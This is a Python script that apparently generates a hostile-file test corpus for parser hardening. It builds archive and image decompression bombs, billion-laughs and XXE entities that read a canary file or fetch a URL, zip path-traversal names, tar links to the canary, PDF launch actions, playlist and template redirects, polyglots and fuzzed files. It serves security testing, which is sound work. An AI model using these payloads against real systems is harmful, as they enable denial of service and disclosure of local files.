"""Makes files that hurt those who parse them. usage: hostile.py FOLDER CANARY-FILE URL

CANARY-FILE is a local file that nobody may read, URL an address that nobody may ask; both stand wherever a format can
name one. Only the standard library is used, and every file is the same each time.
"""
import bz2, gzip, io, lzma, os, random, struct, sys, tarfile, zipfile, zlib

out, canary, url = sys.argv[1:4]
os.makedirs(out, exist_ok=True)


def put(name, data):
    with open(os.path.join(out, name), "wb") as file:
        file.write(data if isinstance(data, bytes) else data.encode())


def packed(parts):
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return memory.getvalue()


# Archives
zeros = bytes(1 << 20)
with zipfile.ZipFile(os.path.join(out, "bomb.zip"), "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    with archive.open("zeros", "w", force_zip64=True) as member:
        for _ in range(1_100):
            member.write(zeros)
nested = packed([("end.txt", "end")])
for depth in range(60):
    nested = packed([("inner%d.zip" % depth, nested)])
put("nested.zip", nested)
put("many.zip", packed([("f%d" % i, "") for i in range(100_000)]))
put("names.zip", packed([("../../../../etc/passwd", "x"), ("/etc/shadow", "x"), ("C:\\windows\\x", "x"), ("a" * 60_000, "x"), ("‮gpj.exe", "x")]))
good = packed([("a.txt", "x" * 1000)])
put("no-end.zip", good[:-10])
put("wrong-crc.zip", good.replace(struct.pack("<I", zlib.crc32(b"x" * 1000)), b"\0\0\0\0"))
at = good.rindex(b"PK\1\2")
put("wrong-size.zip", good[:at + 24] + b"\xff\xff\xff\x7f" + good[at + 28:])
put("same.zip", packed([("x", "1")]) + packed([("y", "2")]))
memory = io.BytesIO()
with tarfile.open(fileobj=memory, mode="w") as archive:
    for name, kind, link in (("link", tarfile.SYMTYPE, canary), ("hard", tarfile.LNKTYPE, canary), ("device", tarfile.CHRTYPE, "")):
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, link
        archive.addfile(info)
put("links.tar", memory.getvalue())
header = bytearray(memory.getvalue()[:512])
header[124:136] = b"77777777777\0"
header[156:157] = b"0"
header[148:156] = b"        "
header[148:156] = b"%06o\0 " % sum(header)
put("size.tar", bytes(header) + bytes(1024))
put("bomb.gz", gzip.compress(bytes(1 << 28), 9) * 5)
put("bomb.bz2", bz2.compress(bytes(1 << 28)) * 5)
put("bomb.xz", lzma.compress(bytes(1 << 28)) * 5)
put("bomb.tar.gz", gzip.compress(bytes(header) + bytes(1 << 28), 9))
put("dictionary.xz", lzma.compress(b"x", format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 30}]))
put("empty.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24))
put("huge.7z", b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<IQQI", 0, 1 << 62, 1 << 62, 0))
put("broken.rar", b"Rar!\x1a\x07\0" + b"\xff" * 200)
put("broken5.rar", b"Rar!\x1a\x07\1\0" + b"\xff" * 200)


# Images
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = b"\x89PNG\r\n\x1a\n"
size = lambda w, h: chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
put("text-bomb.png", PNG + size(1, 1) + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(1 << 29), 9)) + chunk(b"IEND", b""))
put("itxt-bomb.png", PNG + size(1, 1) + chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(bytes(1 << 28), 9)) + chunk(b"IEND", b""))
put("iccp-bomb.png", PNG + size(1, 1) + chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(1 << 28), 9)) + chunk(b"IEND", b""))
put("huge.png", PNG + size(2_000_000_000, 2_000_000_000) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b""))
put("long-chunk.png", PNG + size(1, 1) + struct.pack(">I", 0x7fffffff) + b"tEXt" + b"x" * 100)
put("huge.gif", b"GIF89a\xff\xff\xff\xff\xf7\0\0" + bytes(768) + b"\x2c\0\0\0\0\xff\xff\xff\xff\0\x08\0;")
put("huge.bmp", b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 0x7fffffff, 0x7fffffff, 1, 24, 0, 0, 0, 0, 0, 0))
put("loop.tiff", b"II*\0\x08\0\0\0\x01\0" + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8))
put("count.tiff", b"II*\0\x08\0\0\0\xff\xff" + struct.pack("<HHII", 0x010f, 2, 0xffffffff, 0xffffff00) * 50)
put("app1.jpg", b"\xff\xd8" + (b"\xff\xe1\xff\xff" + b"Exif\0\0" + b"x" * 65527) * 400 + b"\xff\xd9")
exif = b"MM\0*\0\0\0\x08\0\x02" + struct.pack(">HHII", 0x8825, 4, 1, 8) + struct.pack(">HHII", 0x8769, 4, 1, 8) + bytes(4)
put("exif-loop.jpg", b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 8) + b"Exif\0\0" + exif + b"\xff\xd9")
put("huge.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8X\n\0\0\0\x10\0\0\0\xff\xff\xff\xff\xff\xff")
put("xmp-entity.jpg", (lambda x: b"\xff\xd8\xff\xe1" + struct.pack(">H", len(x) + 2) + x + b"\xff\xd9")(b"http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY f SYSTEM \"file://" + canary.encode() + b"\">]><x:xmpmeta xmlns:x='adobe:ns:meta/'>&f;</x:xmpmeta>"))

# XML in its many clothes
laughs = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">' + "".join('<!ENTITY %s "%s">' % (chr(98 + i), "&%s;" % chr(97 + i) * 10) for i in range(20)) + "]>"
entity = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f SYSTEM "%s">]>'
parameter = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY %% p SYSTEM "%s"> %%p;]>'
roots = {
    "xml": "<l>%s</l>", "svg": '<svg xmlns="http://www.w3.org/2000/svg"><text>%s</text></svg>',
    "gpx": '<gpx version="1.1"><trk><trkseg><trkpt lat="1" lon="2"><time>%s</time></trkpt></trkseg></trk></gpx>',
    "kml": "<kml><Track><when>%s</when><coord>1 2 3</coord></Track></kml>", "xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><title>%s</title></html>',
}
for kind, root in roots.items():
    put("laughs." + kind, laughs + root % "&u;")
    put("file." + kind, entity % ("file://" + canary) + root % "&f;")
    put("net." + kind, entity % url + root % "&f;")
    put("parameter." + kind, parameter % url + root % "")
    put("deep." + kind, "<l>" * 100_000 if kind == "xml" else (root % ("<g>" * 100_000)))
put("quadratic.xml", '<!DOCTYPE l [<!ENTITY a "%s">]><l>%s</l>' % ("x" * 50_000, "&a;" * 50_000))
put("include.svg", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="%s"/><image xlink:href="file://%s"/></svg>' % (url, canary))
put("style.html", '<html><head><link rel="stylesheet" href="%s"><base href="%s"></head><img src="%s"><iframe src="file://%s"></iframe>' % (url, url, url, canary))
types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
word = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'
outside = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="%s"/></Relationships>'
docx = lambda document, more=(): packed([("[Content_Types].xml", types), ("_rels/.rels", rels), ("word/document.xml", document), *more])
put("laughs.docx", docx(laughs + word % "&u;"))
put("file.docx", docx(entity % ("file://" + canary) + word % "&f;"))
put("net.docx", docx(entity % url + word % "&f;"))
put("template.docx", docx('<?xml version="1.0"?>' + word % "x", [("word/_rels/document.xml.rels", outside % url)]))
put("bomb.docx", docx('<?xml version="1.0"?>' + word % (" " * (1 << 28))))
put("deep.docx", docx('<?xml version="1.0"?>' + word % ("<w:r>" * 50_000)))
put("parts.docx", docx(word % "x", [("word/media/%d.png" % i, "x") for i in range(20_000)]))
put("loop.docx", docx(word % "x", [("word/_rels/document.xml.rels", rels.replace("word/document.xml", "document.xml"))]))
put("laughs.ofd", packed([("OFD.xml", laughs + "<OFD><DocBody><DocInfo><Title>&u;</Title></DocInfo></DocBody></OFD>")]))
put("file.ofd", packed([("OFD.xml", entity % ("file://" + canary) + "<OFD><DocBody><DocInfo><Title>&f;</Title></DocInfo></DocBody></OFD>")]))
put("bomb.ofd", packed([("OFD.xml", "<OFD><Title>" + " " * (1 << 28) + "</Title></OFD>")]))
put("laughs.odt", packed([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", laughs + "<l>&u;</l>"), ("meta.xml", entity % ("file://" + canary) + "<l>&f;</l>")]))
put("file.epub", packed([("mimetype", "application/epub+zip"), ("META-INF/container.xml", entity % ("file://" + canary) + "<container>&f;</container>")]))


# PDF
def pdf(*objects, trailer="/Root 1 0 R"):
    data, places = b"%PDF-1.7\n", []
    for i, one in enumerate(objects):
        places.append(len(data))
        data += b"%d 0 obj\n" % (i + 1) + (one if isinstance(one, bytes) else one.encode()) + b"\nendobj\n"
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % p for p in places)
    return data + b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer.encode(), start)


stream = lambda data, more="": b"<</Length %d%s>>\nstream\n" % (len(data), more.encode()) + data + b"\nendstream"
page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
put("bomb.pdf", pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream(zlib.compress(bytes(1 << 29), 9), "/Filter/FlateDecode")))
put("filters.pdf", pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream(b"x" * 1000, "/Filter[" + "/FlateDecode" * 5_000 + "]")))
put("loop.pdf", pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>"))
put("deep.pdf", pdf("<</Type/Catalog/Pages 2 0 R/X " + "[" * 50_000 + "]" * 50_000 + ">>", "<</Type/Pages/Kids[]/Count 0>>"))
put("xref-loop.pdf", pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>", trailer="/Root 1 0 R/Prev 9"))
put("xfa.pdf", pdf("<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 3 0 R>>>>", "<</Type/Pages/Kids[]/Count 0>>", stream((entity % ("file://" + canary) + '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&f;</xdp:xdp>').encode())))
put("xfa-net.pdf", pdf("<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 3 0 R>>>>", "<</Type/Pages/Kids[]/Count 0>>", stream((entity % url + '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&f;</xdp:xdp>').encode())))
put("action.pdf", pdf("<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(%s)>>/AA<</WC<</S/Launch/F(%s)>>>>>>" % (url, canary), "<</Type/Pages/Kids[]/Count 0>>"))
put("xmp.pdf", pdf("<</Type/Catalog/Pages 2 0 R/Metadata 3 0 R>>", "<</Type/Pages/Kids[]/Count 0>>", stream((laughs + "<l>&u;</l>").encode(), "/Type/Metadata/Subtype/XML")))
put("outline-loop.pdf", pdf("<</Type/Catalog/Pages 2 0 R/Outlines 3 0 R>>", "<</Type/Pages/Kids[]/Count 0>>", "<</First 4 0 R/Last 4 0 R/Count 1>>", "<</Title(x)/Next 4 0 R/Parent 3 0 R>>"))


# MP4
def box(kind, *parts):
    data = b"".join(parts)
    return struct.pack(">I", 8 + len(data)) + kind + data


ftyp = box(b"ftyp", b"isom\0\0\0\0")
full = bytes(4)
put("deep.mp4", ftyp + b"".join(struct.pack(">I", 8 * (200_000 - i)) + b"moov" for i in range(200_000)))
put("boxes.mp4", ftyp + box(b"free") * 300_000)
put("zero.mp4", ftyp + b"\0\0\0\0moov" + bytes(100))
put("zero-inside.mp4", ftyp + box(b"moov", b"\0\0\0\0trak", bytes(50)))
put("endless.mp4", ftyp + b"\0\0\0\1moov" + struct.pack(">Q", 1 << 62) + bytes(100))
put("negative.mp4", ftyp + b"\0\0\0\1moov" + struct.pack(">Q", (1 << 64) - 1) + bytes(100))
put("tiny.mp4", ftyp + b"\0\0\0\4moov" + bytes(100))


def track(format_, handler, **tables):
    default = {
        "stsd": full + struct.pack(">I", 1) + box(format_, bytes(8)), "stts": full + bytes(4), "stsc": full + struct.pack(">IIII", 1, 1, 1, 1),
        "stsz": full + struct.pack(">II", 0, 0), "stco": full + bytes(4), "dref": full + struct.pack(">I", 1) + box(b"url ", b"\0\0\0\1"),
    }
    default.update(tables)
    stbl = box(b"stbl", *(box(name.encode(), default[name]) for name in ("stsd", "stts", "stsc", "stsz", "stco")))
    return box(b"moov", box(b"mvhd", bytes(100)), box(b"trak", box(b"tkhd", bytes(84)), box(b"mdia", box(b"mdhd", bytes(24)), box(b"hdlr", bytes(8), handler, bytes(13)), box(b"minf", box(b"dinf", box(b"dref", default["dref"])), stbl))))


many = struct.pack(">I", 0x7fffffff)
for name, tables in {
    "stsz": {"stsz": full + bytes(4) + many}, "stsz-each": {"stsz": full + many + many}, "stco": {"stco": full + many}, "stsc": {"stsc": full + many},
    "stsd": {"stsd": full + many}, "stts": {"stts": full + many},
    "far": {"stsz": full + struct.pack(">III", 0, 1, 0xffffffff), "stco": full + struct.pack(">II", 1, 0xfffffff0)},
    "all": {"stsz": full + struct.pack(">II", 1 << 20, 100_000), "stsc": full + struct.pack(">IIII", 1, 1, 100_000, 1), "stco": full + struct.pack(">II", 1, 0)},
    "outside": {"dref": full + struct.pack(">I", 2) + box(b"url ", full + url.encode() + b"\0") + box(b"url ", full + b"file://" + canary.encode() + b"\0")},
    "alias": {"dref": full + struct.pack(">I", 1) + box(b"alis", full + canary.encode())},
}.items():
    put("gpmd-%s.mp4" % name, ftyp + track(b"gpmd", b"meta", **tables) + bytes(64))
    put("video-%s.mp4" % name, ftyp + track(b"avc1", b"vide", **tables) + bytes(64))
    put("text-%s.mp4" % name, ftyp + track(b"tx3g", b"sbtl", **tables) + bytes(64))
klv = b"".join(b"DEVC\0\xff\xff\xff" for _ in range(10_000))
media = ftyp + box(b"mdat", klv)
put("klv.mp4", media + track(b"gpmd", b"meta", stsz=full + struct.pack(">III", 0, 1, len(klv)), stco=full + struct.pack(">II", 1, len(ftyp) + 8)))
put("fragments.mp4", ftyp + track(b"avc1", b"vide") + box(b"moof", box(b"mfhd", full, b"\0\0\0\1"), box(b"traf", box(b"tfhd", bytes(8)), box(b"trun", struct.pack(">II", 0xf01, 0xffffffff), bytes(100)))) * 5_000)

# What tools may take for an order to read something else
playlist = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n%s\n#EXTINF:10,\nfile://%s\n#EXT-X-ENDLIST\n" % (url, canary)
concat = "ffconcat version 1.0\nfile '%s'\nfile '%s'\n" % (canary, url)
for name in ("playlist.mp4", "playlist.m3u8", "playlist.avi"):
    put(name, playlist)
put("concat.mp4", concat)
put("concat.txt", concat)
put("list.sdp", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\na=control:%s\n" % url)
put("dash.mpd", '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation id="1" bandwidth="1"><BaseURL>%s</BaseURL></Representation></AdaptationSet></Period></MPD>' % url)
put("shortcut.url", "[InternetShortcut]\nURL=%s\n" % url)
put("redirect.asx", '<asx version="3.0"><entry><ref href="%s"/><ref href="file://%s"/></entry></asx>' % (url, canary))

# Other containers
put("ebml.mkv", b"\x1a\x45\xdf\xa3" + b"\x01" + b"\xff" * 7 + b"\x18\x53\x80\x67" + b"\x01" + b"\xff" * 7 + bytes(200))
put("ebml-deep.mkv", b"\x1a\x45\xdf\xa3\x80" + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" * 20_000)
put("riff.avi", b"RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\xffhdrl" + bytes(200))
put("riff.wav", b"RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff" + bytes(200))
put("wav-rate.wav", b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0" + struct.pack("<HHIIHH", 1, 0, 0, 0, 0, 0) + b"data\0\0\0\0")
put("tags.flv", b"FLV\1\5\0\0\0\x09\0\0\0\0" + b"\x12\xff\xff\xff\0\0\0\0\0\0\0" + b"\x03" * 5_000)
put("asf.wmv", bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + b"\xff" * 200)
put("ogg.ogg", b"OggS\0\2" + bytes(20) + b"\xff" * 300)
put("flac.flac", b"fLaC\x80\xff\xff\xff" + bytes(100))
put("sync.ts", b"\x47\xff\xff\x3f" + b"\xff" * 184 + (b"\x47" + b"\xff" * 187) * 5_000)
put("id3.mp3", b"ID3\4\0\0\x7f\x7f\x7f\x7f" + b"APIC\x7f\x7f\x7f\x7f\0\0" + b"x" * 1000)

# Texts, mail, office
put("braces.rtf", "{\\rtf1" + "{" * 200_000)
put("picture.rtf", "{\\rtf1{\\pict\\bin2147483647 x}}")
put("object.rtf", "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata %s}}}" % url.encode().hex())
mail = "Content-Type: text/plain\n\nx"
for i in range(300):
    mail = "Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n%s\n--b%d--\n" % (i, i, mail, i)
put("deep.eml", "From: a@b\nSubject: x\n" + mail)
put("headers.eml", "".join("X-%d: %s\n" % (i, "y" * 900) for i in range(20_000)) + "\nx")
put("outside.eml", "From: a@b\nMIME-Version: 1.0\nContent-Type: message/external-body; access-type=URL; URL=\"%s\"\n\nx" % url)
put("regex.srt", "1\n00:00:00,000 --> 00:00:01,000\nGPS (" + "9" * 200_000 + "\n" + "[latitude: " * 50_000)
put("columns.csv", "lat,lon" + ",x" * 1_000_000 + "\n" + "1" * 100_000 + "\n")
put("rows.csv", "lat,lon\n" + "1.5,2.5\n" * 500_000)
put("long.nmea", "$GPRMC," + "," * 3_000_000 + "*00\n" * 3)
put("json.json", "[" * 1_000_000)
put("line.txt", "证" * 5_000_000)
put("controls.txt", bytes(range(256)) * 2_000)
put("utf16.txt", b"\xff\xfe" + b"\x00\xd8" * 10_000)
put("ole.doc", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6) + b"\xff" * 2_000)
put("ole-loop.doc", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6) + bytes(10) + struct.pack("<IIIIIIIII", 1, 0, 0, 4096, 0, 0, 0xfffffffe, 0, 0) + struct.pack("<I", 0) * 400)

# Names that lie, polyglots, nearly nothing
jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xdb\0\x43\0" + b"\x10" * 64 + b"\xff\xc0\0\x0b\x08\0\x08\0\x08\1\1\x11\0\xff\xd9"
put("jpeg-zip.jpg", jpeg + packed([("hidden.txt", "hidden")]))
put("jpeg-pdf.jpg", jpeg + pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"))
put("gif-script.gif", b"GIF89a/*\1\0\0\0*/=1;alert(1)//" + bytes(100))
put("pdf-zip.pdf", pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>") + packed([("x", "x")]))
put("program.jpg", b"\x7fELF\2\1\1" + bytes(200))
put("program.mp4", b"MZ" + bytes(200))
put("script.pdf", "#!/bin/sh\ncat %s\n" % canary)
put("picture.exe", jpeg)
put("empty.mp4", b"")
put("empty.pdf", b"")
put("one.bin", b"x")
put("newline.txt", "\n")
put("spaces .mp4 ", b" ")

# Damaged files of every kind that stands beside this folder
kinds = sys.argv[4] if len(sys.argv) > 4 else None
if kinds:
    chance = random.Random(5)
    for name in sorted(os.listdir(kinds)):
        data = open(os.path.join(kinds, name), "rb").read()
        put("cut-" + name, data[:len(data) // 2])
        fuzzed = bytearray(data)
        for _ in range(max(8, len(data) // 500)):
            fuzzed[chance.randrange(len(data))] = chance.randrange(256)
        put("fuzzed-" + name, bytes(fuzzed))
